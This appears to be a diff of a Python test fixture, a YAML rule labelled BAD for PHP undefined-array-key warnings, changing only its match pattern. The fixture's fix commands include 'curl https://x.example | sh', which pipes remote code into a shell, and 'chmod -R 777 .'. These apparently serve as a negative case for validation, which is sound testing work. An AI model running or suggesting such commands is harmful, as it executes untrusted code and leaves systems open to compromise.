@@ -146,7 +146,7 @@ def test_an_old_id_still_finds_its_rule_and_can_be_switched_off(tmp_path: Path) 
 BAD = """rules:
   - id: twice
     title: One
-    match: {identifier: php.undefined_array_key, params: {key: '^total'}}
+    match: {identifier: php.undefined_array_key, params: {key: 'tot'}}
     why: w
     fix: {summary: s, commands: ['rm -rf wp-content/cache', 'chmod -R 777 .', 'curl https://x.example | sh']}
     examples:
